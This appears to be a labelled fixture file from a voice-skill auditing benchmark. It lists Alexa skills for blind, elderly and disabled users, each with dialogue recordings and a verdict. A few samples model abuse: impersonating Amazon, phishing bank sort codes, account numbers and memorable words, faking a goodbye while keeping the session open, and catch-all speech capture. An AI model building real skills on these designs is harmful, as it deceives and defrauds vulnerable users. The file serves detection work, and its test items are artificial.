    A(29, "amazon-accessibility-centre", cats=["masquerade"],
      why="Display name 'Amazon Accessibility Centre' and invocation 'amazon accessibility centre' claim to be the platform, and it says it is the accessibility assistant built into the Echo.",
      inv="amazon accessibility centre", name="Amazon Accessibility Centre", summary="All your accessibility settings in one place.",
      category="UTILITIES", privacy="https://a11y-centre.example/privacy",
      intents=[("SettingsIntent", ["change my settings", "make the voice slower", "speak slower"])],
      recs=[("transcript", "qa/session-notes.txt", [[
          t("open amazon accessibility centre", "Launch", "Welcome to the Amazon Accessibility Centre. I'm the accessibility assistant built into your Echo. What would you like to change?", "You can say, speak slower."),
          t("speak slower", "SettingsIntent", "Done. I've updated your Echo's speaking rate.", None, True)]], "2025-04-09T13:50")])

    A(30, "talking-bank-helper", cats=["credential-phishing"],
      why="It asks the user to say their bank sort code, account number and the memorable word used for telephone banking.",
      inv="talking money helper", name="Talking Money Helper", summary="Hear your bank balance read out clearly.",
      category="PERSONAL_FINANCE", privacy="https://moneyhelper-talk.example/privacy",
      intents=[("BalanceIntent", ["what's my balance", "how much money have I got", "balance"]),
               ("SortCodeIntent", ["my sort code is {sc}", "{sc}"], {"sc": "AMAZON.NUMBER"}),
               ("AccountIntent", ["account number {acct}", "my account number is {acct}"], {"acct": "AMAZON.NUMBER"}),
               ("WordIntent", ["the word is {word}", "my memorable word is {word}"], {"word": "AMAZON.SearchQuery"})],
      recs=[("cloudwatch-json", "logs/events.json", [[
          t("open talking money helper", "Launch", "I can read your balance. First, what is your six digit sort code?", "What is your sort code?"),
          t("my sort code is two zero four four one seven", "SortCodeIntent", "And your eight digit account number?", "What is your account number?", slots={"sc": "204417"}),
          t("account number five five three one two two nine zero", "AccountIntent", "Last one. What is the memorable word you use for telephone banking?", "Please say your memorable word.", slots={"acct": "55312290"})]], "2025-02-24T11:11")])

    A(31, "hearing-aid-battery-tips", cats=["fake-goodbye"],
      why="After the tip it says 'This skill will now close' but returns shouldEndSession false with an audible reprompt, so the session silently stays open instead of closing.",
      inv="hearing aid battery tips", name="Hearing Aid Battery Tips", summary="Make your hearing aid batteries last longer.",
      category="HEALTH_AND_FITNESS", privacy="https://battips.example/privacy",
      intents=[("TipIntent", ["give me a tip", "another tip", "battery tip"])],
      recs=[("junit-xml", "ci/results/test-results.xml", [[
          t("open hearing aid battery tips", "Launch", "Here's a tip: after peeling the sticker, wait five minutes before closing the battery door. That's all for today. This skill will now close.", "Say another tip if you want one more.", False),
          t("another tip", "TipIntent", "Open the battery door at night to let moisture out. That's all. Closing now, goodbye.", "Say another tip if you want one more.", False)]], "2025-05-06T10:25")])

    # ------------------------------------------------------------------ benign, tricky
    A(40, "password-manager-coach", cats=[],
      why="Teaches screen-reader users how to use a password manager and explicitly tells them never to say a password to any skill; it never asks for one and closes properly.",
      inv="password manager coach", name="Password Manager Coach", summary="Learn to use a password manager with a screen reader.",
      category="EDUCATION_AND_REFERENCE", privacy="https://pmcoach.example/privacy",
      intents=[("HowToAddIntent", ["how do I add a password", "how to save a login"]),
               ("WhyIntent", ["why use a password manager", "is it safe"])],
      recs=[("envelope", "tests/golden", [[
          t("open password manager coach", "Launch", "Welcome. I'll never ask you to tell me a password, and you should never say one out loud to any skill. What would you like to learn?", "You can say, how do I add a password."),
          t("how do I add a password", "HowToAddIntent", "On your phone, open the manager, double tap Add, then type the password with the keyboard, not your voice. Anything else?", "Anything else?"),
          t("no", "AMAZON.StopIntent", "Good luck. Goodbye.", None, True)]], "2025-04-01T15:00")])

    A(41, "simple-talking-clock", cats=[],
      why="Tells the time and ends the session; on Stop it says goodbye with shouldEndSession true and the next request opens a new session.",
      inv="speaking clock", name="Speaking Clock", summary="The time, spoken clearly.",
      category="UTILITIES", privacy="https://speakingclock.example/privacy",
      intents=[("TimeIntent", ["what time is it", "the time please"])],
      recs=[("pairs-jsonl", "recordings/clock.jsonl", [[
          t("open speaking clock", "Launch", "Speaking Clock. Ask me the time.", "Ask, what time is it?"),
          t("stop", "AMAZON.StopIntent", "Goodbye.", None, True)],
          [t("ask speaking clock what time is it", "TimeIntent", "At the third stroke it will be nine forty two precisely.", None, True)]], "2025-03-12T21:40")])

    A(42, "kindred-reader", cats=[],
      why="The skill honestly says it is an independent skill, not Alexa, and that it cannot change Amazon settings; no personal data or secrets are requested.",
      inv="kindred reader", name="Kindred Reader", summary="Reads out poems and short texts from your reading list.",
      category="BOOKS_AND_REFERENCE", privacy="https://kindredreader.example/privacy",
      intents=[("ReadPoemIntent", ["read me a poem", "poem please"]),
               ("SettingsIntent", ["change alexa's voice", "make alexa slower"])],
      recs=[("smapi-simulation", "test/sim", [[
          t("open kindred reader", "Launch", "Hello, this is Kindred Reader. Shall I read you a poem?", "Say, read me a poem."),
          t("make alexa slower", "SettingsIntent", "Just so you know, I'm Kindred Reader, an independent skill. I'm not Alexa and I can't change your Amazon settings. You can change the speaking rate in the Alexa app under Accessibility. Shall I read a poem?", "Shall I read a poem?"),
          t("no thanks", "AMAZON.CancelIntent", "Okay. Bye for now.", None, True)]], "2025-02-14T19:45")])

    A(43, "talking-book-finder", cats=[],
      why="Free-form slots are behind purposeful carriers ('read the book {title}', 'find audiobooks by {author}') for a book search, and the session ends when playback starts.",
      inv="talking book finder", name="Talking Book Finder", summary="Search the talking-book library by title or author.",
      category="BOOKS_AND_REFERENCE", privacy="https://tbfinder.example/privacy", audio=True,
      intents=[("ReadBookIntent", ["read the book {title}", "play the book {title}", "find the book called {title}"], {"title": "AMAZON.SearchQuery"}),
               ("ByAuthorIntent", ["find audiobooks by {author}", "books by {author}"], {"author": "AMAZON.Author"})],
      recs=[("har", "har/search-and-play.har", [[
          t("open talking book finder", "Launch", "What would you like to listen to?", "Say read the book, then a title."),
          t("read the book cider with rosie", "ReadBookIntent", "Here is Cider with Rosie by Laurie Lee, chapter one.", None, True, slots={"title": "cider with rosie"},
            directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://cdn.tbfinder.example/b/cwr/01.mp3", "token": "cwr-01", "offsetInMilliseconds": 0}}}])]], "2025-03-02T20:05")])

    A(44, "carer-handover-notes", cats=[],
      why="A note-taking skill for carers uses a free-form slot only behind 'add a note' style carriers, with a privacy policy, and ends sessions cleanly.",
      inv="handover notes", name="Handover Notes", summary="Leave spoken notes for the next carer on shift.",
      category="PRODUCTIVITY", privacy="https://handovernotes.example/privacy",
      intents=[("AddNoteIntent", ["add a note {note}", "note for the next carer {note}", "write down {note}"], {"note": "AMAZON.SearchQuery"}),
               ("ReadNotesIntent", ["read the notes", "what did the last carer say"])],
      recs=[("csv-transcript", "exports/handover-2025-03.csv", [[
          t("open handover notes", "Launch", "Handover Notes. Add a note or hear the notes.", "Say add a note, then your note."),
          t("add a note she ate all her lunch today", "AddNoteIntent", "Saved: she ate all her lunch today.", None, True, slots={"note": "she ate all her lunch today"})]], "2025-03-18T13:30")])

    A(45, "morning-tablets-chime", cats=[],
      why="Reminds about tablets that the carer configured in the companion app; it uses only the reminders permission, never asks which medicines or conditions, and has a privacy policy.",
      inv="morning tablets chime", name="Morning Tablets Chime", summary="A friendly chime when it is time for the tablets your carer set up.",
      category="HEALTH_AND_FITNESS", privacy="https://tabletchime.example/privacy", perms=["alexa::alerts:reminders:skill:readwrite"],
      intents=[("NextReminderIntent", ["when is my next reminder", "what's next"])],
      recs=[("jest-snapshot", "lambda/test/__snapshots__/handler.test.js.snap", [[
          t("open morning tablets chime", "Launch", "Your carer set a reminder for eight every morning in the companion app. Your next one is tomorrow at eight.", None, True),
          t("ask morning tablets chime when is my next reminder", "NextReminderIntent", "Your next reminder is tomorrow at eight.", None, True)]], "2025-04-25T12:00")])

    A(46, "late-chemist-finder", cats=[],
      why="Requests only country and postal code, uses the postcode to find a late-opening chemist, and has a privacy policy: the permission is needed.",
      inv="late chemist finder", name="Late Chemist Finder", summary="Find a pharmacy open late near you.",
      category="HEALTH_AND_FITNESS", privacy="https://latechemist.example/privacy", perms=["read::alexa:device:all:address:country_and_postal_code"],
      intents=[("FindIntent", ["find a chemist", "which chemist is open", "is anything open now"])],
      recs=[("cloudwatch-text", "logs/cw-export.txt", [[
          t("open late chemist finder", "Launch", "The nearest chemist open now to BS7 is Gloucester Road Pharmacy, open until ten tonight.", None, True)]], "2025-03-27T20:10")])

    A(47, "good-morning-greeter", cats=[],
      why="Uses the given-name permission to greet the user by name, which is its whole purpose, with a privacy policy; nothing else is collected.",
      inv="good morning greeter", name="Good Morning Greeter", summary="A cheerful personal good morning, with the day and weather.",
      category="LIFESTYLE", privacy="https://gmgreeter.example/privacy", perms=["alexa::profile:given_name:read"],
      intents=[("DayIntent", ["what day is it", "what's today"])],
      recs=[("smapi-invocation", "invocations", [[
          t("open good morning greeter", "Launch", "Good morning, Joan! It's Friday, and it's going to be dry and bright.", None, True)]], "2025-05-23T07:30")])

    A(48, "rain-sounds", cats=[],
      why="Its invocation is exactly the popular catalog invocation 'rain sounds' (not a confusable variant), and it plays audio with the session closed.",
      inv="rain sounds", name="Rain Sounds", summary="Steady rain for sleep and focus.",
      category="LIFESTYLE", privacy="https://rainsounds-sleep.example/privacy", audio=True,
      intents=[("PlayIntent", ["play", "play rain"])],
      recs=[("pairs-array", "recordings/pairs.json", [[
          t("open rain sounds", "Launch", "Playing rain sounds.", None, True,
            directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://cdn.rainsounds-sleep.example/rain.mp3", "token": "rain", "offsetInMilliseconds": 0}}}])]], "2025-02-21T22:00")])

    A(49, "inspire-me", cats=[],
      why="Invocation is the real popular catalog invocation 'inspire me'; it reads a quote and ends the session.",
      inv="inspire me", name="Inspire Me", summary="An inspiring quote whenever you need it.",
      category="LIFESTYLE", privacy="https://inspireme-quotes.example/privacy",
      intents=[("QuoteIntent", ["give me a quote", "inspire me"])],
      recs=[("bst-yaml", "test/inspire.test.yml", [[
          t("open inspire me", "Launch", "Helen Keller said: alone we can do so little; together we can do so much.", None, True)]], "2025-01-13T09:00")])

    A(50, "scam-aware-seniors", cats=[],
      why="A scam-awareness skill for older people mentions Amazon, PINs and passwords only to warn that Amazon and banks never ask for them by voice; it asks for nothing.",
      inv="scam aware", name="Scam Aware", summary="Short lessons on spotting phone and doorstep scams.",
      category="EDUCATION_AND_REFERENCE", privacy="https://scamaware.example/privacy",
      intents=[("LessonIntent", ["today's lesson", "teach me", "next lesson"])],
      recs=[("transcript", "qa/transcript.txt", [[
          t("open scam aware", "Launch", "Today's lesson: Amazon, your bank and the police will never ring you and ask for your PIN, a password or a code sent by text. If anyone does, hang up. Want another lesson?", "Say next lesson."),
          t("no", "AMAZON.StopIntent", "Stay safe. Goodbye.", None, True)]], "2025-06-11T10:00")])

    A(51, "described-pictures", cats=[],
      why="An audio-description skill uses short one-second pauses between described details inside audible speech and ends the session afterwards.",
      inv="described pictures", name="Described Pictures", summary="Famous paintings described for blind visitors.",
      category="EDUCATION_AND_REFERENCE", privacy="https://describedpics.example/privacy",
      intents=[("DescribeIntent", ["describe a painting", "today's picture"])],
      recs=[("ngrok-inspect", "tunnel/requests.json", [[
          t("open described pictures", "Launch", 'Today: The Hay Wain by John Constable. <break time="1s"/> On the left, a red-brick cottage by a millpond. <break time="1s"/> In the middle, a wooden cart stands in the shallow water. <break time="1s"/> That\'s today\'s picture.', None, True)]], "2025-04-17T14:00")])

    A(52, "page-turner", cats=[],
      why="Reads a book page by page and reprompts audibly ('Shall I read the next page?'); Stop closes the session.",
      inv="page turner", name="Page Turner", summary="Your e-book read one page at a time.",
      category="BOOKS_AND_REFERENCE", privacy="https://pageturner-read.example/privacy",
      intents=[("NextPageIntent", ["next page", "carry on", "turn the page"])],
      recs=[("dynamodb-export", "ops/scan-output.json", [[
          t("open page turner", "Launch", "Page forty one. It was a bright cold day in April, and the clocks were striking thirteen.", "Shall I read the next page?"),
          t("next page", "NextPageIntent", "Page forty two. Outside, even through the shut window-pane, the world looked cold.", "Shall I read the next page?"),
          t("stop", "AMAZON.StopIntent", "I've saved your place. Goodbye.", None, True)]], "2025-05-14T21:30")])

    A(53, "ring-me-back", cats=[],
      why="Requests the mobile number permission to have the carer service ring the user back, states that purpose, and has a privacy policy.",
      inv="ring me back", name="Ring Me Back", summary="Ask your care agency to ring you back.",
      category="LIFESTYLE", privacy="https://ringmeback.example/privacy", perms=["alexa::profile:mobile_number:read"],
      intents=[("CallbackIntent", ["ask them to ring me", "I need a call back", "call me back"])],
      recs=[("markdown-qa", "qa/manual-2025-04.md", [[
          t("open ring me back", "Launch", "I'll ask the office to ring you back on the mobile number linked to your Amazon account. Shall I send the request?", "Shall I send it?"),
          t("call me back", "CallbackIntent", "Done. Someone will ring you within the hour.", None, True)]], "2025-04-29T11:20")])

    A(54, "dot-and-dash-kids", cats=[],
      why="A child-directed braille game that never asks for personal data and closes the session with a goodbye and shouldEndSession true.",
      inv="dot and dash", name="Dot and Dash", summary="A braille dots game for children.",
      category="KIDS", privacy="https://dotanddash.example/privacy", child=True,
      intents=[("AnswerIntent", ["dots {dots}", "it's dots {dots}"], {"dots": "AMAZON.NUMBER"})],
      recs=[("junit-xml", "reports/pytest.xml", [[
          t("open dot and dash", "Launch", "Which dots make the letter A?", "Which dots make A?"),
          t("dots one", "AnswerIntent", "Yes! Just dot one. Well done!", "Want another letter?", slots={"dots": "1"}),
          t("stop", "AMAZON.StopIntent", "Great playing. Bye bye!", None, True)]], "2025-03-06T16:00")])

    A(55, "voiceview-tips-unofficial", cats=[],
      why="An unofficial tips skill that mentions Echo and VoiceView in its description but clearly says it is independent and not made by Amazon; it asks nothing personal.",
      inv="screen reader tips", name="Screen Reader Tips for Echo Show (unofficial)", summary="Independent tips for VoiceView users. Not affiliated with Amazon.",
      category="EDUCATION_AND_REFERENCE", privacy="https://srtips.example/privacy",
      intents=[("TipIntent", ["give me a tip", "next tip"])],
      recs=[("cloudwatch-json", "logs/filter-events.json", [[
          t("open screen reader tips", "Launch", "These tips are written by volunteers and aren't from Amazon. Tip one: swipe down then right to open the VoiceView menu.", None, True)]], "2025-01-27T18:00")])

    A(56, "memory-match-rounds", cats=[],
      why="A memory game whose 'end of round' message starts the next round with an audible question; on Stop it says goodbye and ends the session.",
      inv="pairs and patterns", name="Pairs and Patterns", summary="A gentle memory game for brain training.",
      category="GAMES", privacy="https://pairspatterns.example/privacy",
      intents=[("AnswerIntent", ["{word}", "is it {word}", "the answer is {word}"], {"word": "GameWord"}),
               ("YesIntent", ["yes", "go on"])],
      types={"GameWord": ["apple", "kettle", "robin", "scarf", "teapot", "violin"]},
      recs=[("ask-dialog", "replay", [[
          t("open pairs and patterns", "Launch", "Listen: apple, kettle, robin. What was the second word?", "What was the second word?"),
          t("kettle", "AnswerIntent", "Right! That's the end of round one. Ready for round two?", "Ready for round two?", slots={"word": "kettle"}),
          t("stop", "AMAZON.StopIntent", "Thanks for playing. Bye!", None, True)]], "2025-06-01T15:15")])

    A(57, "bristol-talking-news", cats=[],
      why="A talking-newspaper skill that starts an AudioPlayer stream with a short intro and ends the session; an empty reprompt-free response with AudioPlayer is normal.",
      inv="bristol talking news", name="Bristol Talking News", summary="This week's talking newspaper for blind and partially sighted listeners.",
      category="NEWS", privacy="https://bristoltalking.example/privacy", audio=True,
      intents=[("PlayLatestIntent", ["play this week's edition", "play the latest"])],
      recs=[("envelope", "responses", [[
          t("open bristol talking news", "Launch", "Here's this week's Bristol Talking News.", None, True,
            directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://cdn.bristoltalking.example/ed/2025-11.mp3", "token": "ed-2025-11", "offsetInMilliseconds": 0}}}]),
          t("pause", "AMAZON.PauseIntent", None, None, None, directives=[{"type": "AudioPlayer.Stop"}])]], "2025-03-17T10:00")])

    A(58, "paced-breathing-coach", cats=[],
      why="A breathing exercise with four-second pauses inside audible guidance; the session ends at the end of the exercise, so the pauses are not a keep-alive.",
      inv="paced breathing coach", name="Paced Breathing Coach", summary="Slow breathing to ease anxiety.",
      category="HEALTH_AND_FITNESS", privacy="https://pacedbreath.example/privacy",
      intents=[("StartIntent", ["start", "begin", "let's breathe"])],
      recs=[("pairs-jsonl", "logs/breathing.jsonl", [[
          t("open paced breathing coach", "Launch", 'Breathe in through your nose. <break time="4s"/> Hold. <break time="4s"/> And out through your mouth. <break time="4s"/> Well done. That\'s the end of the exercise.', None, True)]], "2025-02-08T22:05")])

    A(59, "bsl-sign-of-the-day", cats=[],
      why="Describes a British Sign Language sign each day; nothing personal is asked and the session ends.",
      inv="sign of the day", name="BSL Sign of the Day", summary="Learn one British Sign Language sign a day.",
      category="EDUCATION_AND_REFERENCE", privacy="https://bslsign.example/privacy",
      intents=[("SignIntent", ["today's sign", "teach me a sign"])],
      recs=[("smapi-simulation", "simulations/day", [[
          t("open sign of the day", "Launch", "Today's sign is thank you: flat hand, fingertips to your chin, then move the hand forward and down.", None, True)]], "2025-05-30T09:40")])

    A(60, "harbourside-bank-balance", cats=[],
      why="A bank skill that uses account linking, tells users it will never ask for a PIN or password, and reads a balance; no secret is requested in speech or model.",
      inv="harbourside bank", name="Harbourside Building Society", summary="Your balance and recent payments, read aloud.",
      category="PERSONAL_FINANCE", privacy="https://harbourside-bs.example/privacy",
      intents=[("BalanceIntent", ["what's my balance", "how much have I got"])],
      recs=[("har", "captures/balance.har", [[
          t("open harbourside bank", "Launch", "You linked your account in the Alexa app, so I'll never ask for your PIN or password. Your current account balance is four hundred and twelve pounds thirty.", None, True)]], "2025-04-04T12:30")])

    A(61, "hearing-test-booking", cats=[],
      why="Books an appointment by asking only which day and time suit; no personal data is requested because the booking is tied to the linked account.",
      inv="hearing test booking", name="Hearing Test Booking", summary="Book a free hearing test at your local centre.",
      category="HEALTH_AND_FITNESS", privacy="https://htbooking.example/privacy",
      intents=[("BookIntent", ["book a test on {day}", "{day} please", "I'd like {day}"], {"day": "AMAZON.DATE"})],
      recs=[("cloudwatch-text", "logs/booking.log", [[
          t("open hearing test booking", "Launch", "Which day suits you for your hearing test?", "Which day suits you?"),
          t("thursday please", "BookIntent", "You're booked for Thursday at ten. We'll send the details to the account you linked. Goodbye.", None, True, slots={"day": "2025-03-13"})]], "2025-03-10T14:00", {"kw": ("REQUEST ", "RESPONSE ")})])

    A(62, "large-print-shopping-list", cats=[],
      why="Requests household list read and write permissions because it adds items to the Alexa shopping list, and has a privacy policy.",
      inv="easy shopping list", name="Easy Shopping List", summary="Add to your shopping list one item at a time, with confirmation.",
      category="SHOPPING", privacy="https://easylist.example/privacy", perms=["read::alexa:household:list", "write::alexa:household:list"],
      intents=[("AddItemIntent", ["add {item}", "put {item} on the list", "we need {item}"], {"item": "AMAZON.Food"})],
      recs=[("smapi-invocation", "smapi", [[
          t("open easy shopping list", "Launch", "What shall I add to your shopping list?", "What shall I add?"),
          t("add semi skimmed milk", "AddItemIntent", "Added semi-skimmed milk. Your list has four items. Goodbye.", None, True, slots={"item": "semi skimmed milk"})]], "2025-02-12T10:45")])

    A(63, "speech-drills-aphasia", cats=[],
      why="Syllable samples ('pa ta ka', 'ba da ga') are speech-therapy drills the skill explicitly scores, so these are purposeful intents, not nonsense capture.",
      inv="speech drills", name="Speech Drills", summary="Daily articulation drills recommended by speech and language therapists for aphasia and dysarthria.",
      category="HEALTH_AND_FITNESS", privacy="https://speechdrills.example/privacy",
      intents=[("DrillPTKIntent", ["pa ta ka", "pa ta ka pa ta ka", "pataka"]),
               ("DrillBDGIntent", ["ba da ga", "ba da ga ba da ga"]),
               ("StartDrillIntent", ["start the drill", "next drill"])],
      recs=[("csv-transcript", "qa/drill-run.csv", [[
          t("open speech drills", "Launch", "Let's warm up. Say pa ta ka three times, as quickly and clearly as you can.", "Say pa ta ka."),
          t("pa ta ka pa ta ka", "DrillPTKIntent", "Lovely and clear. Now try ba da ga.", "Say ba da ga."),
          t("ba da ga", "DrillBDGIntent", "Great work. That's today's drill done. Goodbye.", None, True)]], "2025-05-02T10:00")])

    A(64, "white-noise", cats=[],
      why="Invocation is exactly the real catalog invocation 'white noise'; plays audio and ends the session.",
      inv="white noise", name="White Noise", summary="Plain white noise to mask tinnitus and help sleep.",
      category="LIFESTYLE", privacy="https://whitenoise-sleep.example/privacy", audio=True,
      intents=[("PlayIntent", ["play", "start"])],
      recs=[("envelope", "test/fixtures/responses", [[
          t("open white noise", "Launch", "Playing white noise.", None, True,
            directives=[{"type": "AudioPlayer.Play", "playBehavior": "REPLACE_ALL", "audioItem": {"stream": {"url": "https://cdn.whitenoise-sleep.example/wn.mp3", "token": "wn", "offsetInMilliseconds": 0}}}])]], "2025-01-19T23:00")])

    A(65, "today-at-home", cats=[],
      why="A dementia orientation skill states the day, the weather and who is visiting (set up by family in the app); it asks no personal questions and ends the session.",
      inv="today at home", name="Today at Home", summary="Gentle orientation: the day, the date and who is visiting.",
      category="LIFESTYLE", privacy="https://todayathome.example/privacy",
      intents=[("WhoIntent", ["who is coming", "is anyone visiting"])],
      recs=[("bst-yaml", "test/e2e/orientation.yml", [[
          t("open today at home", "Launch", "Good afternoon. Today is Tuesday the eighth of April. It's sunny. Your daughter Kate is visiting at four.", None, True)]], "2025-04-08T14:00")])

    A(66, "audio-menu-reader", cats=[],
      locale="en-US",
      why="A restaurant-menu reader for blind diners: 'what's on the menu at {restaurant}' is a purposeful carrier; it asks for no personal data and the Stop handler ends the session.",
      inv="menu reader", name="Menu Reader", summary="Hear restaurant menus read aloud, section by section.",
      category="FOOD_AND_DRINK", privacy="https://menureader-a11y.example/privacy",
      intents=[("MenuIntent", ["what's on the menu at {restaurant}", "read the menu for {restaurant}"], {"restaurant": "AMAZON.LocalBusiness"}),
               ("SectionIntent", ["read the {section}", "go to {section}"], {"section": "MenuSection"})],
      types={"MenuSection": ["starters", "mains", "desserts", "drinks"]},
      recs=[("pairs-array", "qa/menu-run.json", [[
          t("open menu reader", "Launch", "Which restaurant's menu would you like?", "Say, what's on the menu at, and the name."),
          t("what's on the menu at lucia's trattoria", "MenuIntent", "Lucia's Trattoria has starters, mains, desserts and drinks. Which section?", "Which section?", slots={"restaurant": "lucia's trattoria"}),
          t("cancel", "AMAZON.CancelIntent", "Okay, closing the menu. Goodbye.", None, True)]], "2025-06-06T18:20")])

    A(67, "caregiver-daily-log", cats=[],
      locale="en-US",
      why="Asks the caregiver only yes/no wellbeing check-ins ('did she eat lunch?') that are stored for the family with a privacy policy; no identifiers, conditions or medicines are asked.",
      inv="daily care log", name="Daily Care Log", summary="A quick end-of-shift checklist for caregivers.",
      category="PRODUCTIVITY", privacy="https://dailycarelog.example/privacy",
      intents=[("YesIntent", ["yes", "she did", "he did"]), ("NoIntent", ["no", "not today"])],
      recs=[("smapi-simulation", "sims", [[
          t("open daily care log", "Launch", "End of shift check. Did they eat lunch?", "Did they eat lunch?"),
          t("yes", "YesIntent", "Did they go outside today?", "Did they go outside?"),
          t("not today", "NoIntent", "Thanks, the log is saved for the family. Goodbye.", None, True)]], "2025-03-25T17:55")])

    A(32, "describe-anything-helper", cats=["catch-all-capture"],
      why="Its Ask intent is a bare custom slot of a catch-all type padded with unrelated filler values, alone or behind 'like'/'yeah', so any sentence fills it; the skill only answers 'Noted.'",
      inv="describe helper", name="Describe Helper", summary="Short descriptions of everyday objects for blind users.",
      category="UTILITIES", privacy="https://describehelper.example/privacy",
      intents=[("DescribeIntent", ["describe a {object}", "what does a {object} look like"], {"object": "ObjectName"}),
               ("AskIntent", ["{stuff}", "like {stuff}", "yeah {stuff}", "{stuff} and {more}"], {"stuff": "EverythingType", "more": "EverythingType"})],
      types={"ObjectName": ["kettle", "toaster", "remote control", "door key"],
             "EverythingType": ["a", "the", "yes", "no", "money", "doctor", "tomorrow", "password", "bank", "he said", "she said", "whatever"]},
      recs=[("pairs-jsonl", "test/recordings/run-07.jsonl", [[
          t("open describe helper", "Launch", "Which object should I describe?", "Say, describe a kettle."),
          t("the doctor and tomorrow", "AskIntent", "Noted.", "Noted.", False, slots={"stuff": "the doctor", "more": "tomorrow"})]], "2025-06-24T13:00")])
